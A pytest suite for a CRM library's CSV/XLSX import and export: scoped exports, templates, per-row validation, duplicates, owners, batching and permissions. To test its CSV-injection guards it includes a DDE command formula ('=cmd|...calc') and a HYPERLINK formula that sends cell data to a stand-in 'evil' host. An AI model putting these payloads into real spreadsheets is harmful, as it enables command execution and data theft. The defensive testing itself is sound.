"""Import and export (issue 17) on memory, SQLite and PostgreSQL: exports cut to the actor's
scope with labels, names and option labels; templates from the current fields; imports with
mapping, per-row errors, duplicates, owners and history, in batches, logged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from sqlalchemy import event

from crmkit.entities import Operation
from crmkit.entities.kinds import BUILTIN_KINDS
from crmkit.errors import PermissionDenied, RuleViolation, ValidationError
from crmkit.workflow.io import ImportProgress, ImportResult
from crmkit.workflow.io import service as service_module
from crmkit.workflow.io.results import IMPORT_NOTE, IO_RECORD

from .conftest import Org


def csv_bytes(*rows: list[str], encoding: str = "utf-8-sig") -> io.BytesIO:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return io.BytesIO(text.getvalue().encode(encoding))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def exported(org: Org, actor: Any, kind: str = "customer", **options: Any) -> list[list[str]]:
    out = io.BytesIO()
    org.crm.io.export(actor, kind, out, **options)
    return read_csv(out.getvalue())


def column(rows: list[list[str]], header: str) -> list[str]:
    at = rows[0].index(header)
    return [row[at] for row in rows[1:]]


def imported(org: Org, actor: Any, *rows: list[str], kind: str = "customer",
             **options: Any) -> ImportResult:
    return org.crm.io.import_records(actor, kind, csv_bytes(*rows), **options)


# -- export ---------------------------------------------------------------------------------------
def test_an_export_holds_only_the_records_in_the_actors_scope(org: Org) -> None:
    crm = org.crm
    crm.customers.create(org.rep, {"name": "小李的客户"})
    crm.customers.create(org.manager, {"name": "经理的客户"})
    crm.customers.create(org.admin, {"name": "王总的客户"})
    assert column(exported(org, org.rep, fields=["name"]), "客户名称") == ["小李的客户"]
    assert sorted(column(exported(org, org.admin, fields=["name"]), "客户名称")) == [
        "小李的客户", "王总的客户", "经理的客户"]


def test_export_selected_writes_the_chosen_visible_records_only(org: Org) -> None:
    crm = org.crm
    mine = [crm.customers.create(org.rep, {"name": f"客户{i}"}).id for i in range(3)]
    hidden = crm.customers.create(org.admin, {"name": "不可见"}).id
    rows = exported(org, org.rep, ids=[mine[0], mine[2], hidden, "no-such-id"],
                    fields=["name"])
    assert sorted(column(rows, "客户名称")) == ["客户0", "客户2"]
    page = crm.customers.list(org.rep, {"ids": [mine[1], hidden]})
    assert [c.name for c in page.items] == ["客户1"]
    assert crm.customers.list(org.rep, {"ids": []}).items == ()


def test_an_export_follows_the_query_scene_and_sort(org: Org) -> None:
    crm = org.crm
    for name, level in (("甲", "A"), ("乙", "B"), ("丙", "A")):
        crm.customers.create(org.admin, {"name": name, "level": level})
    request = {"conditions": [{"field": "level", "op": "eq", "value": "A"}],
               "sort": [{"field": "name"}]}
    assert column(exported(org, org.admin, request=request, fields=["name"]),
                  "客户名称") == sorted(["甲", "丙"])


def test_an_export_has_labels_names_and_option_labels_instead_of_codes(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "task", {"key": "dept", "label_zh": "承办部门",
                                          "label_en": "Department", "type": "department"})
    crm.tasks.create(org.admin, {"title": "=1+1 回访", "priority": "high", "owner_id": org.rep.id,
                                 "due_date": "2026-11-05", "custom": {"dept": org.sales.id}})
    rows = exported(org, org.admin, kind="task")
    assert rows[0][:4] == ["任务名称", "任务描述", "截止日期", "优先级"]
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["任务名称"] == "'=1+1 回访"  # a spreadsheet shows it, never runs it
    assert (record["优先级"], record["负责人"], record["承办部门"]) == (
        "高", org.rep.name, org.sales.name)
    assert record["截止日期"] == "2026-11-05" and record["已完成"] == "否"
    english = exported(org, org.admin, kind="task", language="en")
    assert english[0][0] == "Title" and english[1][english[0].index("Priority")] == "High"


def test_an_export_streams_in_keyset_pages_and_reports_progress(
        org: Org, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(service_module, "EXPORT_PAGE", 10)
    for i in range(25):
        org.crm.customers.create(org.admin, {"name": f"批量{i:02}"})
    seen: list[int] = []
    out = io.BytesIO()
    result = org.crm.io.export(org.admin, "customer", out, fields=["name"],
                               request={"sort": [{"field": "name"}]}, progress=seen.append)
    assert result.rows == 25 and seen == [10, 20, 25]
    assert column(read_csv(out.getvalue()), "客户名称") == [f"批量{i:02}" for i in range(25)]


def test_an_xlsx_export_is_a_workbook_with_the_kinds_sheet(org: Org) -> None:
    org.crm.customers.create(org.admin, {"name": "甲公司", "level": "A"})
    out = io.BytesIO()
    org.crm.io.export(org.admin, "customer", out, format="xlsx", fields=["name", "level"])
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert book.sheetnames == ["客户"]
    assert [[c.value for c in row] for row in book["客户"].iter_rows()] == [
        ["客户名称", "客户级别"], ["甲公司", "A"]]


def test_exports_and_imports_are_in_the_operation_log(org: Org) -> None:
    crm = org.crm
    crm.customers.create(org.rep, {"name": "甲"})
    exported(org, org.manager)
    imported(org, org.manager, ["客户名称"], ["乙"], ["丙"])
    log = crm.io.history(org.admin, "customer")
    assert [(e.action, e.actor_id) for e in log] == [("import", org.manager.id),
                                                      ("export", org.manager.id)]
    assert log[0].note.startswith("2 (csv): 2 created") and log[1].note == "1 (csv)"


# -- templates ------------------------------------------------------------------------------------
def test_a_template_marks_required_columns_and_lists_options(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "customer", {
        "key": "scale", "label_zh": "规模", "label_en": "Scale", "type": "select",
        "required": True, "options": ["大", "中", "小"]})
    out = io.BytesIO()
    crm.io.template(org.manager, "customer", out)
    header, hints = read_csv(out.getvalue())
    assert header[0] == "客户名称*" and "规模*" in header and "客户级别" in header
    assert "锁定" not in header and "创建人" not in header  # nothing an import cannot write
    assert hints[header.index("规模*")] == "必填；可选：大 / 中 / 小"
    assert hints[header.index("负责人")] == "员工姓名或手机号"


def test_a_filled_in_template_imports_with_its_hint_row_passed_over(org: Org) -> None:
    out = io.BytesIO()
    org.crm.io.template(org.manager, "customer", out)
    header, hints = read_csv(out.getvalue())
    row = [""] * len(header)
    row[0], row[header.index("客户级别")] = "甲公司", "B"
    result = imported(org, org.manager, header, hints, row)
    assert (result.rows, result.created, result.failed) == (1, 1, 0)
    assert org.crm.customers.list(org.manager).items[0].level == "B"


# -- import ---------------------------------------------------------------------------------------
def test_rows_become_records_by_label_key_or_mapping(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "lead", {"key": "budget", "label_zh": "预算",
                                          "label_en": "Budget", "type": "money"})
    result = imported(org, org.manager, ["线索名称*", "mobile", "Budget", "来源渠道"],
                      ["甲", "138 0000 1111", "1,5", "广告"], ["乙", "", "20.5", "转介绍"],
                      kind="lead", mapping={"来源渠道": "source"})
    assert (result.created, result.failed) == (1, 1)
    assert [(e.row, e.column, e.code) for e in result.errors] == [
        (2, "Budget", "format.decimal")]
    lead = crm.leads.list(org.manager).items[0]
    assert (lead.name, lead.mobile, lead.source, lead.custom) == (
        "乙", None, "转介绍", {"budget": "20.50"})
    assert lead.owner_id == org.manager.id


def test_a_bad_row_is_reported_with_row_and_column_and_nothing_of_it_is_written(
        org: Org) -> None:
    result = imported(org, org.manager, ["客户名称", "客户级别", "邮箱", "下次联系时间"],
                      ["甲", "A", "a@example.com", "2026-11-20 10:00"],
                      ["", "Z", "not-mail", "明天"],
                      ["丙", "C", "", ""])
    assert (result.rows, result.created, result.failed) == (3, 2, 1)
    problems = {(e.row, e.column, e.code) for e in result.errors}
    assert problems == {(3, "客户名称", "required"), (3, "客户级别", "option"),
                        (3, "邮箱", "format.email"), (3, "下次联系时间", "format.datetime")}
    names = sorted(c.name for c in org.crm.customers.list(org.manager).items)
    assert names == ["丙", "甲"]
    assert all(e.message_zh.startswith(e.column) for e in result.errors if e.column)


def test_the_error_report_is_written_as_a_file(org: Org) -> None:
    result = imported(org, org.manager, ["客户名称", "客户级别"], ["甲", "Z"])
    out = io.BytesIO()
    assert org.crm.io.write_errors(org.manager, result, out) == 1
    assert read_csv(out.getvalue()) == [["行号", "列", "错误代码", "说明"],
                                        ["2", "客户级别", "option", "客户级别：“Z”不是可选项"]]


def test_duplicates_on_unique_fields_are_skipped_or_overwritten(org: Org) -> None:
    crm = org.crm
    crm.customers.create(org.manager, {"name": "甲公司", "level": "A"})
    header = ["客户名称", "客户级别"]
    skipped = imported(org, org.manager, header, ["甲公司 ", "B"], ["乙公司", "B"],
                       ["乙公司", "C"])
    assert (skipped.created, skipped.skipped, skipped.skipped_rows) == (1, 2, (2, 4))
    overwritten = imported(org, org.manager, header, ["甲公司", "C"], on_duplicate="overwrite")
    assert (overwritten.updated, overwritten.created) == (1, 0)
    levels = {c.name: c.level for c in crm.customers.list(org.manager).items}
    assert levels == {"甲公司": "C", "乙公司": "B"}
    again = imported(org, org.manager, header, ["丁公司", "A"], ["丁公司", "B"],
                     on_duplicate="overwrite")
    assert [(e.row, e.code) for e in again.errors] == [(3, "import.duplicate_in_file")]


def test_a_duplicate_the_actor_may_not_edit_is_refused_as_a_taken_value(org: Org) -> None:
    org.crm.customers.create(org.admin, {"name": "王总的客户"})
    result = imported(org, org.manager, ["客户名称"], ["王总的客户"], on_duplicate="overwrite")
    assert [(e.row, e.column, e.code) for e in result.errors] == [(2, "客户名称", "unique")]


def test_duplicates_can_be_matched_on_any_field(org: Org) -> None:
    org.crm.leads.create(org.manager, {"name": "老线索", "mobile": "13800001111"})
    result = imported(org, org.manager, ["线索名称", "手机"], ["新线索", "138-0000-1111"],
                      ["另一个", "13900002222"], kind="lead", match_on=["mobile"])
    assert (result.created, result.skipped) == (1, 1)


def test_matching_on_a_field_that_is_not_unique_never_reveals_a_hidden_record(
        org: Org) -> None:
    org.crm.leads.create(org.admin, {"name": "王总的线索", "mobile": "13811112222"})
    result = imported(org, org.manager, ["线索名称", "手机"], ["我的线索", "13811112222"],
                      kind="lead", match_on=["mobile"])
    assert (result.created, result.skipped) == (1, 0)


def test_the_owner_column_takes_names_or_mobiles_inside_the_actors_scope(org: Org) -> None:
    crm = org.crm
    result = imported(org, org.manager, ["客户名称", "负责人"], ["甲", org.rep.name],
                      ["乙", org.rep.mobile], ["丙", org.admin.name], ["丁", "查无此人"])
    assert (result.created, result.failed) == (2, 2)
    assert {(e.row, e.code) for e in result.errors} == {(4, "out_of_scope"), (5, "not_found")}
    assert {c.owner_id for c in crm.customers.list(org.rep).items} == {org.rep.id}


def test_an_ambiguous_user_name_is_refused_with_a_hint(org: Org) -> None:
    org.user("13700000009", org.rep.name, org.group, "sales_rep")
    result = imported(org, org.manager, ["客户名称", "负责人"], ["甲", org.rep.name])
    assert [e.code for e in result.errors] == ["import.ambiguous"]
    assert "手机号" in result.errors[0].message_zh


def test_history_from_another_system_is_kept_and_the_log_says_imported(org: Org) -> None:
    crm = org.crm
    header = ["客户名称", "负责人", "创建时间", "领取时间", "最后跟进时间", "最后跟进记录"]
    result = imported(org, org.admin, header,
                      ["老客户", org.rep.name, "2020-01-02 09:00", "2021-03-04 10:00",
                       "2022-05-06 11:00", "电话聊过"])
    assert result.created == 1, result.errors
    customer = crm.customers.list(org.admin).items[0]
    assert customer.created_at == datetime(2020, 1, 2, 1, 0, tzinfo=UTC)
    assert customer.received_at == datetime(2021, 3, 4, 2, 0, tzinfo=UTC)
    assert customer.last_followup_at == datetime(2022, 5, 6, 3, 0, tzinfo=UTC)
    assert (customer.last_followup_content, customer.owner_id) == ("电话聊过", org.rep.id)
    entry = crm.customers.operation_log(org.admin, customer.id)[0]
    assert (entry.action, entry.note) == ("create", IMPORT_NOTE)


def test_history_in_the_future_is_refused(org: Org) -> None:
    result = imported(org, org.admin, ["客户名称", "创建时间"], ["甲", "2099-01-01 00:00"])
    assert [(e.column, e.code) for e in result.errors] == [("创建时间", "import.in_future")]


def test_a_formula_cell_is_refused_and_an_escaped_one_is_text(org: Org) -> None:
    result = imported(org, org.manager, ["客户名称", "备注"], ["甲", "=cmd|' /C calc'!A0"],
                      ["乙", "'=1+1"])
    assert [(e.row, e.column, e.code) for e in result.errors] == [(2, "备注", "import.formula")]
    assert [c.remark for c in org.crm.customers.list(org.manager).items] == ["=1+1"]


def test_rows_land_in_batches_each_reported_to_the_progress_callback(org: Org) -> None:
    seen: list[ImportProgress] = []
    rows = [["客户名称"], *[[f"客户{i}"] for i in range(25)], ["客户3"]]
    result = imported(org, org.manager, *rows, batch_size=10, progress=seen.append)
    assert [p.rows for p in seen] == [10, 20, 26]
    assert (result.created, result.skipped, seen[-1].skipped) == (25, 1, 1)


def test_a_batch_wide_rule_is_applied_row_by_row(org: Org) -> None:
    crm = org.crm
    crm.customers.set_limits(org.admin, [{"user_id": org.rep.id, "max_owned": 2}])
    result = imported(org, org.manager, ["客户名称", "负责人"],
                      *[[f"客户{i}", org.rep.name] for i in range(4)])
    assert (result.created, result.failed) == (2, 2)
    assert {e.code for e in result.errors} == {"customer.owned_limit"}


def test_a_file_with_no_header_naming_a_field_is_refused(org: Org) -> None:
    with pytest.raises(ValidationError) as refused:
        imported(org, org.manager, ["甲", "乙"], ["1", "2"])
    assert refused.value.errors[0].code == "import.no_header"


def test_a_header_naming_two_fields_must_be_mapped(org: Org) -> None:
    org.crm.fields.define(org.admin, "customer", {"key": "alias", "label_zh": "客户级别",
                                                  "label_en": "Alias", "type": "text"})
    with pytest.raises(ValidationError) as refused:
        imported(org, org.manager, ["客户名称", "客户级别"], ["甲", "A"])
    assert refused.value.errors[0].code == "import.header_ambiguous"
    result = imported(org, org.manager, ["客户名称", "客户级别"], ["甲", "A"],
                      mapping={"客户级别": "alias"})
    assert org.crm.customers.list(org.manager).items[0].custom == {"alias": "A"}
    assert result.created == 1


def test_a_gbk_file_imports_and_a_garbled_one_is_refused_before_anything_lands(
        org: Org) -> None:
    crm = org.crm
    gbk = csv_bytes(["客户名称", "地址"], ["华为", "深圳市龙岗区"], encoding="gbk")
    assert crm.io.import_records(org.manager, "customer", gbk).created == 1
    garbled = io.BytesIO("客户名称\n甲\n".encode() + b"\xff\xfe\x80" * 20)
    with pytest.raises(ValidationError) as refused:
        crm.io.import_records(org.manager, "customer", garbled)
    assert refused.value.errors[0].code == "file.encoding"
    assert [c.name for c in crm.customers.list(org.manager).items] == ["华为"]


def test_an_xlsx_with_a_title_row_and_merged_group_headers_imports(org: Org) -> None:
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = "客户清单"
    page["A1"] = "客户导入"
    page.merge_cells("A1:C1")
    page["A2"], page["C2"] = "基本", "联系"
    page.merge_cells("A2:B2")
    page.append(["客户名称", "客户级别", "手机"])
    page.append(["甲公司", "A", 13800001111])
    page.append(["乙公司", "=IF(1,\"A\",\"B\")", None])
    data = io.BytesIO()
    book.save(data)
    data.seek(0)
    result = org.crm.io.import_records(org.manager, "customer", data, format="xlsx",
                                       sheet="客户清单")
    assert (result.created, [(e.row, e.code) for e in result.errors]) == (
        1, [(5, "import.formula")])
    customer = org.crm.customers.list(org.manager).items[0]
    assert (customer.name, customer.level, customer.mobile) == ("甲公司", "A", "13800001111")


def test_bad_options_are_refused_after_the_permission(org: Org) -> None:
    with pytest.raises(ValidationError) as refused:
        imported(org, org.manager, ["客户名称"], ["甲"], on_duplicate="merge")
    assert refused.value.errors[0].path == "$.on_duplicate"
    with pytest.raises(ValidationError) as bad_format:
        org.crm.io.export(org.admin, "customer", io.BytesIO(), format="pdf")
    assert bad_format.value.errors[0].path == "$.format"
    with pytest.raises(PermissionDenied):
        imported(org, org.rep, ["客户名称"], ["甲"], on_duplicate="merge")


# -- every kind -----------------------------------------------------------------------------------
@pytest.mark.parametrize("declaration", BUILTIN_KINDS, ids=lambda k: k.kind)
def test_every_kind_needs_its_modules_export_and_import_permissions(
        org: Org, declaration: Any) -> None:
    crm, kind, module = org.crm, declaration.kind, declaration.module
    role = crm.org.add_role(org.admin, {"name": f"只读{kind}", "permissions": {
        module.value: [Operation.VIEW.value]}})
    viewer = org.user("13700000001", "只看", org.sales, role_ids=[role.id])
    for call, operation in ((lambda: crm.io.export(viewer, kind, io.BytesIO()),
                             Operation.EXPORT),
                            (lambda: crm.io.template(viewer, kind, io.BytesIO()),
                             Operation.IMPORT),
                            (lambda: crm.io.import_records(viewer, kind, csv_bytes(["x"])),
                             Operation.IMPORT)):
        with pytest.raises(PermissionDenied) as refused:
            call()
        assert refused.value.details == {"module": module.value, "operation": operation.value}
    header = exported(org, org.admin, kind=kind)[0]
    assert header[0] == declaration.system_fields[0].label_zh
    out = io.BytesIO()
    crm.io.template(org.admin, kind, out)
    assert read_csv(out.getvalue())[0]


def test_the_history_needs_the_import_permission(org: Org) -> None:
    with pytest.raises(PermissionDenied):
        org.crm.io.history(org.rep, "customer")
    assert org.crm.io.history(org.manager, "customer") == []
    assert all(e.record_id == IO_RECORD for e in org.crm.io.history(org.admin, "lead"))



# -- follow-up history ----------------------------------------------------------------------------
def test_follow_up_history_lands_on_visible_records_dated_as_it_happened(org: Org) -> None:
    crm = org.crm
    mine = crm.customers.create(org.rep, {"name": "甲公司"})
    crm.customers.create(org.admin, {"name": "王总的客户"})
    result = crm.io.import_followups(org.manager, "customer", csv_bytes(
        ["客户名称", "跟进方式", "跟进内容", "跟进时间", "跟进人"],
        ["甲公司", "打电话", "第一次联系", "2024-01-02 09:00", org.rep.name],
        ["甲公司", "见面拜访", "谈了报价", "2024-03-04 15:30", ""],
        ["王总的客户", "打电话", "看不见的", "2024-01-01 09:00", ""],
        ["甲公司", "飞鸽传书", "方式不对", "", ""],
        ["甲公司", "打电话", "未来的", "2099-01-01 09:00", ""],
    ), match_on="name")
    assert (result.rows, result.created, result.failed) == (5, 2, 3)
    assert [(e.row, e.column, e.code) for e in result.errors] == [
        (4, "客户名称", "not_found"), (5, "跟进方式", "invalid"),
        (6, "跟进时间", "import.in_future")]
    notes = crm.followups.list(org.manager, "customer", mine.id)
    assert [(f.content, f.author_id) for f in notes] == [("谈了报价", org.manager.id),
                                                         ("第一次联系", org.rep.id)]
    customer = crm.customers.get(org.manager, mine.id)
    assert customer.last_followup_at == datetime(2024, 3, 4, 7, 30, tzinfo=UTC)
    assert customer.last_followup_content == "谈了报价"
    entry = crm.customers.operation_log(org.manager, mine.id)[0]
    assert (entry.action, entry.note) == ("followup", IMPORT_NOTE)


def test_follow_up_history_needs_the_import_permission_and_a_kind_with_follow_ups(
        org: Org) -> None:
    with pytest.raises(PermissionDenied):
        org.crm.io.import_followups(org.rep, "customer", csv_bytes(["记录ID", "跟进内容"]))
    with pytest.raises(RuleViolation) as refused:
        org.crm.io.import_followups(org.admin, "product", csv_bytes(["记录ID", "跟进内容"]))
    assert refused.value.code == "record_kind.feature"


def test_follow_up_history_needs_the_follow_ups_create_permission_too(org: Org) -> None:
    role = org.crm.org.add_role(org.admin, {
        "name": "只导入", "permissions": {"customers": ["view", "import"]},
        "scopes": {"customers": {"level": "all"}}})
    importer = org.crm.org.add_user(org.admin, {"mobile": "13700000009", "name": "导入员",
                                                "department_id": org.group.id,
                                                "role_ids": [role.id]})
    with pytest.raises(PermissionDenied):
        org.crm.io.import_followups(importer, "customer", csv_bytes(["记录ID", "跟进内容"]))


def test_follow_up_authors_are_active_users_inside_the_importers_scope(org: Org) -> None:
    crm = org.crm
    mine = crm.customers.create(org.rep, {"name": "甲公司"})
    gone = org.user("13700000008", "离职的", org.group, "sales_rep")
    crm.org.disable_user(org.admin, gone.id)
    result = crm.io.import_followups(org.manager, "customer", csv_bytes(
        ["记录ID", "跟进内容", "跟进时间", "跟进人"],
        [mine.id, "冒名的", "2024-01-01 09:00", org.admin.name],
        [mine.id, "离职的人", "2024-01-01 09:00", gone.mobile],
        [mine.id, "本组的", "2024-01-01 09:00", org.rep.name]))
    assert [(e.row, e.column, e.code) for e in result.errors] == [
        (2, "跟进人", "out_of_scope"), (3, "跟进人", "out_of_scope")]
    assert [f.author_id for f in crm.followups.list(org.manager, "customer", mine.id)] == [
        org.rep.id]


def test_a_refusal_naming_no_row_is_traced_to_its_rows_one_by_one(
        org: Org, monkeypatch: pytest.MonkeyPatch) -> None:
    service = org.crm.customers
    create = service._create_records_in

    def picky(op: Any, fields: Any, records: Any, paths: Any = None, **options: Any) -> None:
        if any(record.name == "坏" for record in records):
            raise ValidationError.at("$", "invalid", "$ 不行", "$ is refused")
        create(op, fields, records, paths, **options)

    monkeypatch.setattr(service, "_create_records_in", picky)
    result = imported(org, org.manager, ["客户名称"], ["好"], ["坏"], ["也好"])
    assert (result.created, [(e.row, e.code) for e in result.errors]) == (2, [(3, "invalid")])


# -- references by id or name ---------------------------------------------------------------------
def test_a_reference_column_takes_an_id_or_the_name_of_a_visible_record(org: Org) -> None:
    crm = org.crm
    mine = crm.customers.create(org.rep, {"name": "甲公司"})
    other = crm.customers.create(org.rep, {"name": "乙公司"})
    hidden = crm.customers.create(org.admin, {"name": "王总的客户"})
    result = imported(org, org.manager, ["姓名", "客户"], ["张一", "甲公司"], ["张二", other.id],
                      ["张三", hidden.id], ["张四", "王总的客户"], ["张五", "查无此客户"],
                      kind="contact")
    assert (result.created, result.failed) == (2, 3)
    assert {(e.row, e.column, e.code) for e in result.errors} == {
        (4, "客户", "not_found"), (5, "客户", "not_found"), (6, "客户", "not_found")}
    assert {c.name: c.customer_id for c in crm.contacts.list(org.manager).items} == {
        "张一": mine.id, "张二": other.id}


def test_a_name_several_visible_records_share_is_a_row_error_and_the_id_decides(
        org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "customer", {
        "key": "referrer", "label_zh": "推荐人", "label_en": "Referrer", "type": "record",
        "reference_kind": "contact"})
    customer = crm.customers.create(org.rep, {"name": "甲公司"})
    first, _ = (crm.contacts.create(org.rep, {"name": "李雷", "customer_id": customer.id})
                for _ in range(2))
    result = imported(org, org.manager, ["客户名称", "推荐人"], ["乙公司", "李雷"],
                      ["丙公司", first.id])
    assert [(e.row, e.column, e.code) for e in result.errors] == [
        (2, "推荐人", "import.ambiguous")]
    assert "ID" in result.errors[0].message_zh
    assert [c.custom for c in crm.customers.list(org.manager, {"keyword": "丙"}).items] == [
        {"referrer": first.id}]


def test_owner_and_department_columns_take_ids_as_well_as_names(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "customer", {
        "key": "team", "label_zh": "所属部门", "label_en": "Team", "type": "department"})
    result = imported(org, org.manager, ["客户名称", "负责人", "所属部门"],
                      ["甲", org.rep.id, org.group.id], ["乙", org.rep.mobile, org.group.name],
                      ["丙", org.admin.id, ""], ["丁", "", "无此部门"])
    assert (result.created, result.failed) == (2, 2)
    assert {(e.row, e.column, e.code) for e in result.errors} == {
        (4, "负责人", "out_of_scope"), (5, "所属部门", "not_found")}
    assert {(c.owner_id, c.custom["team"]) for c in crm.customers.list(org.manager).items
            if c.name in ("甲", "乙")} == {(org.rep.id, org.group.id)}


# -- drop-downs in XLSX templates -----------------------------------------------------------------
def test_an_xlsx_template_offers_each_selects_options_as_a_drop_down(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "customer", {
        "key": "scale", "label_zh": "规模", "label_en": "Scale", "type": "select",
        "options": ["大", "中", "小"]})
    many = [f"选项{i:03d}，含逗号" for i in range(120)]  # too long for an inline list
    crm.fields.define(org.admin, "customer", {
        "key": "region", "label_zh": "地区", "label_en": "Region", "type": "select",
        "options": many})
    crm.fields.define(org.admin, "customer", {
        "key": "tags", "label_zh": "标签", "label_en": "Tags", "type": "multiselect",
        "options": ["x", "y"]})
    out = io.BytesIO()
    crm.io.template(org.manager, "customer", out, format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    page, lists = book.worksheets
    assert lists.sheet_state == "hidden"  # the data sheet stays first: imports read it
    header = [c.value for c in page[1]]
    drops = {str(v.sqref).split(":")[0]: v.formula1
             for v in page.data_validations.dataValidation}
    letter = {name: openpyxl.utils.get_column_letter(header.index(name) + 1)
              for name in ("规模", "地区", "客户级别")}
    assert drops[f"{letter['规模']}2"] == '"大,中,小"'
    assert drops[f"{letter['客户级别']}2"].startswith('"')  # a system select too
    long_list = drops[f"{letter['地区']}2"]
    assert long_list == f"'options'!$A$1:$A${len(many)}"
    assert [row[0] for row in lists.iter_rows(values_only=True)] == many
    tags = openpyxl.utils.get_column_letter(header.index("标签") + 1)
    assert f"{tags}2" not in drops  # a multiselect cell holds several: no drop-down


def test_a_filled_in_xlsx_template_imports(org: Org) -> None:
    crm = org.crm
    out = io.BytesIO()
    crm.io.template(org.manager, "customer", out, format="xlsx")
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    page = book.worksheets[0]
    header = [c.value for c in page[1]]
    row: list[str | None] = [None] * len(header)
    row[0], row[header.index("客户级别")] = "甲公司", "B"
    page.append(row)
    filled = io.BytesIO()
    book.save(filled)
    filled.seek(0)
    result = crm.io.import_records(org.manager, "customer", filled, format="xlsx")
    assert (result.rows, result.created, result.failed) == (1, 1, 0)


def test_a_cell_repeated_down_a_column_is_judged_the_same_on_every_row(org: Org) -> None:
    """Columns keep what their plain cells converted to: a bad cell fails each of its rows, a
    good one (an owner's name) lands on each, every list value its own copy."""
    crm = org.crm
    crm.fields.define(org.admin, "customer", {
        "key": "tags", "label_zh": "标签", "label_en": "Tags", "type": "multiselect",
        "options": ["x", "y"]})
    rows = [[f"客户{i}", "Z" if i % 2 else "A", org.rep.name, "x;y"] for i in range(6)]
    result = imported(org, org.manager, ["客户名称", "客户级别", "负责人", "标签"], *rows)
    assert (result.created, result.failed) == (3, 3)
    assert [(e.row, e.code) for e in result.errors] == [(3, "option"), (5, "option"),
                                                        (7, "option")]
    made = crm.customers.list(org.rep).items
    assert {(c.level, c.owner_id) for c in made} == {("A", org.rep.id)}
    assert len({id(c.custom["tags"]) for c in made}) == 3


def test_a_batch_reads_its_duplicates_once_and_writes_records_and_log_set_based(
        org: Org, backend: Any) -> None:
    """Per batch: one locked lookup of the unique values (the create does not read them again),
    one insert of the records, one of their log entries — however many rows."""
    engine = getattr(backend, "engine", None)
    if engine is None:
        pytest.skip("statements are counted on SQL storage")
    crm = org.crm
    crm.fields.define(org.admin, "lead", {"key": "code", "label_zh": "编号", "label_en": "Code",
                                          "type": "text", "unique": True})
    crm.leads.create(org.manager, {"name": "已有", "custom": {"code": "C1"}})
    seen: list[str] = []

    def record(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        seen.append(statement)

    rows = [[f"线索{i}", f"C{i}"] for i in range(1, 21)]
    event.listen(engine, "before_cursor_execute", record)
    try:
        result = imported(org, org.manager, ["线索名称", "编号"], *rows, kind="lead",
                          batch_size=10)
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert (result.created, result.skipped) == (19, 1)
    lead_reads = [s for s in seen if s.startswith("SELECT ") and "FROM crm_leads" in s]
    writes = [s.split()[2] for s in seen if s.startswith("INSERT INTO")]
    assert len(lead_reads) == 2, lead_reads  # one per batch
    assert writes.count("crm_leads") <= 2 and writes.count("crm_operation_log") <= 3, writes
    entries = [e for e in crm.leads.operation_log(org.manager, crm.leads.list(
        org.manager, {"keyword": "线索20"}).items[0].id)]
    assert [(e.action, e.note) for e in entries] == [("create", IMPORT_NOTE)]


EVIL_LABEL = '=HYPERLINK("http://evil/?"&A1,"x")'


def test_a_label_a_spreadsheet_would_run_is_written_as_text_and_read_back(org: Org) -> None:
    crm = org.crm
    crm.fields.define(org.admin, "customer", {"key": "evil", "label_zh": EVIL_LABEL,
                                              "label_en": "@SUM(1)", "type": "text"})
    crm.customers.create(org.admin, {"name": "甲", "custom": {"evil": "-x"}})
    rows = exported(org, org.admin, fields=["name", "evil"])
    assert rows == [["客户名称", "'" + EVIL_LABEL], ["甲", "'-x"]]
    template = io.BytesIO()
    crm.io.template(org.admin, "customer", template, language="en")
    assert "'@SUM(1)" in read_csv(template.getvalue())[0]
    # what was written reads back: the apostrophe is no part of the header
    result = imported(org, org.admin, ["客户名称", "'" + EVIL_LABEL], ["乙", "'-y"])
    assert (result.created, result.errors) == (1, ())
    [second] = [c for c in crm.customers.list(org.admin).items if c.name == "乙"]
    assert second.custom == {"evil": "-y"}
    book = io.BytesIO()
    crm.io.export(org.admin, "customer", book, format="xlsx", fields=["evil"])
    sheet = openpyxl.load_workbook(io.BytesIO(book.getvalue())).active
    assert sheet is not None
    assert sheet["A1"].value == "'" + EVIL_LABEL and sheet["A1"].data_type == "s"
